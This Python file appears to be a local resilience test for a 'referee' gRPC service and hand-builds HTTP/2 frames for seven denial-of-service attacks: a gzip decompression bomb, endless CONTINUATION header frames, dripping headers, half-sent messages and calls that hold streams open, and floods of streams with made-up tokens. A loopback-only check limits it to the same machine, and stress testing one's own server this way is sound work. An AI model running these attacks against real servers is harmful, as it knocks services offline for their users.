"""Clients that mean harm to a referee's transport: HTTP/2 written by hand, over plain TCP.

    attacks.py NAME HOST:PORT --time 60s [--token TOKEN] [--from 127.0.1.1,127.0.1.2,...]

Each link does the same thing again and again, on a new connection when it is cut off, until the time
is over: with the token of one account, or from the addresses, without a token. Only a referee on this
machine can be attacked.
"""

import argparse
import ipaddress
import itertools
import os
import pathlib
import select
import socket
import struct
import sys
import threading
import time
import zlib

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
from duration import seconds  # pylint: disable=wrong-import-position

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW = 4  # a setting
FRAME = 16384  # bytes that a frame may have
LISTING = "/referee.v1.MatchService/ListMatches"
PLAYING = "/referee.v1.BotService/Play"
CREATING = "/referee.v1.MatchService/CreateMatch"
MOST_BYTES = 8 << 30  # that a link says in all
PAUSE = 0.02  # seconds before a link comes back
LINKS_OF_ACCOUNT = 8


def field(name, value):
    """A header, neither indexed nor compressed."""
    def text(part):
        size = len(part)
        if size < 127:
            return bytes([size]) + part
        size -= 127
        prefix = b"\x7f"
        while size >= 128:
            prefix += bytes([size % 128 + 128])
            size //= 128
        return prefix + bytes([size]) + part
    return b"\0" + text(name.encode()) + text(value.encode())


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def message(payload, compressed=False):
    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload


class Cut(Exception):
    """The referee has ended the connection, or the time is over."""


class Link:
    """A connection that keeps to the referee's windows, as what breaks them is cut off at once."""

    def __init__(self, address, until, token="", source=""):
        self._until = until
        self._token = token
        self._window = 65535
        self._windows = {}
        self._initial = 65535
        self._unread = b""
        self._streams = itertools.count(1, 2)
        self._said = 0
        self.ended = set()
        try:
            self._socket = socket.create_connection(address, 5, (source, 0) if source else None)
            self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        except OSError as error:
            raise Cut from error
        self.say(PREFACE + frame(SETTINGS, 0, 0))

    def close(self):
        self._socket.close()

    def say(self, octets):
        self._said += len(octets)
        view = memoryview(octets)
        while view:
            if time.monotonic() > self._until or self._said > MOST_BYTES:
                raise Cut
            try:
                _, writable, _ = select.select([], [self._socket], [], 0.5)
                if writable:
                    view = view[self._socket.send(view):]
            except OSError as error:
                raise Cut from error

    def hear(self, patience=0.0):
        """Reads what has come, and waits up to so many seconds for something to come."""
        if time.monotonic() > self._until:
            raise Cut
        try:
            if not select.select([self._socket], [], [], patience)[0]:
                return
            octets = self._socket.recv(1 << 18)
        except OSError as error:
            raise Cut from error
        if not octets:
            raise Cut
        self._unread += octets
        while len(self._unread) >= 9:
            size = int.from_bytes(self._unread[:3], "big")
            if len(self._unread) < 9 + size:
                return
            kind, flags = self._unread[3], self._unread[4]
            stream = int.from_bytes(self._unread[5:9], "big")
            payload, self._unread = self._unread[9:9 + size], self._unread[9 + size:]
            self._take(kind, flags, stream, payload)

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at:at + 6])
                if name == INITIAL_WINDOW:
                    grown, self._initial = value - self._initial, value
                    self._windows = {key: size + grown for key, size in self._windows.items()}
            self.say(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.say(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            grown = int.from_bytes(payload, "big")
            if stream == 0:
                self._window += grown
            elif stream in self._windows:
                self._windows[stream] += grown
        elif kind == RESET or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended.add(stream)

    def headers(self, path, more=b""):
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "referee"),
                  ("te", "trailers"), ("content-type", "application/grpc")]
        if self._token:
            fields.append(("authorization", f"Bearer {self._token}"))
        return b"".join(field(name, value) for name, value in fields) + more

    def call(self, path, more=b"", flags=END_HEADERS):
        """Opens a call; returns its stream."""
        stream = next(self._streams)
        self._windows[stream] = self._initial
        self.say(frame(HEADERS, flags, stream, self.headers(path, more)))
        return stream

    def send(self, stream, octets, last=False):
        """Says as much of it as the windows let; returns the rest."""
        while octets and stream not in self.ended:
            size = min(len(octets), FRAME, self._window, self._windows[stream])
            if size <= 0:
                break
            self.say(frame(DATA, END_STREAM if last and size == len(octets) else 0, stream, octets[:size]))
            self._window -= size
            self._windows[stream] -= size
            octets = octets[size:]
        return octets

    def send_all(self, payloads, last):
        """Says something on each stream, as the referee grants it, and returns when all is said."""
        while payloads:
            payloads = {stream: self.send(stream, rest, last) for stream, rest in payloads.items()}
            payloads = {stream: rest for stream, rest in payloads.items()
                        if rest and stream not in self.ended}
            self.hear(0.1 if payloads else 0.0)

    def await_ends(self, streams):
        while not self.ended.issuperset(streams):
            self.hear(0.5)

    def become_known(self):
        if self._token:
            stream = self.call(LISTING)
            self.send(stream, message(b""), last=True)
            self.await_ends([stream])


BOMB = []


def bomb():
    """255 kB that unpack to 250 MiB."""
    if not BOMB:
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        BOMB.append(b"".join([packer.compress(bytes(1 << 20)) for _ in range(250)] + [packer.flush()]))
    return BOMB[0]


def compressed(link):
    """Eight messages that unpack to 250 MiB each, over and over."""
    while True:
        streams = [link.call(path, field("grpc-encoding", "gzip"))
                   for path in (CREATING, PLAYING) for _ in range(4)]
        link.send_all({stream: message(bomb(), True) for stream in streams}, last=True)
        link.await_ends(streams)


def endless(link, piece):
    """Headers that never end, in frames of this piece."""
    stream = link.call(LISTING, flags=0)
    many = frame(CONTINUATION, 0, stream, piece) * max(1, (1 << 16) // (9 + len(piece)))
    while True:
        link.say(many)
        link.hear()


def continuation(link):
    """Headers that never end, a field of 7 kB a frame."""
    endless(link, field("x-pad", "p" * 7000))


def indexed(link):
    """Headers that never end, each a byte that stands for a field which gRPC keeps."""
    endless(link, b"\x91" * 160)


def dripping(link):
    """One header that never ends, a few bytes a frame."""
    stream = link.call(LISTING, b"\0\x05x-pad\x7f\xff\xff\xff\x07", flags=0)
    many = frame(CONTINUATION, 0, stream, b"p") * 6000
    while True:
        link.say(many)
        link.hear()


def half_messages(link):
    """250 messages of 250 kB, of which the last byte never comes."""
    octets = message(bytes(250_000))[:-1]
    link.send_all({link.call(CREATING): octets for _ in range(250)}, last=False)
    while True:
        link.hear(0.5)


def half_calls(link):
    """Calls that say nothing, and never end: each has the largest headers that may be."""
    for _ in range(250):
        link.call(CREATING, b"\x91" * 75)
    while True:
        link.hear(0.5)


def hello():
    """The message that begins a bot's stream, with a token that nobody has."""
    token = os.urandom(16).hex().encode()
    for _ in range(3):  # token, hello, items: each the first field
        token = b"\x0a" + bytes([len(token)]) + token
    return message(token)


def tokens(link):
    """Streams of bots with made-up tokens, 100 at once."""
    while True:
        streams = [link.call(PLAYING) for _ in range(100)]
        link.send_all({stream: hello() for stream in streams}, last=True)
        link.await_ends(streams)


ATTACKS = {"compressed": compressed, "continuation": continuation, "indexed": indexed,
           "dripping": dripping, "half-messages": half_messages, "half-calls": half_calls, "tokens": tokens}


def attack(name, address, until, token="", source=""):
    while time.monotonic() < until:
        try:
            link = Link(address, until, token, source)
        except Cut:
            time.sleep(PAUSE)
            continue
        try:
            link.become_known()
            ATTACKS[name](link)
        except Cut:
            time.sleep(PAUSE)
        finally:
            link.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--time", type=seconds, default=60)
    parser.add_argument("--token", default="")
    parser.add_argument("--from", dest="sources", default="")
    options = parser.parse_args()
    host, port = options.address.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        parser.error(f"{host} is not this machine: give an address of 127.0.0.0/8")
    os.nice(19)  # an adversary has processors of its own: it takes none from the referee here
    until = time.monotonic() + options.time
    bomb()
    sources = options.sources.split(",") if options.sources else [""] * LINKS_OF_ACCOUNT
    threads = [threading.Thread(target=attack, args=(options.name, (host, int(port)), until,
                                                     options.token, source)) for source in sources]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
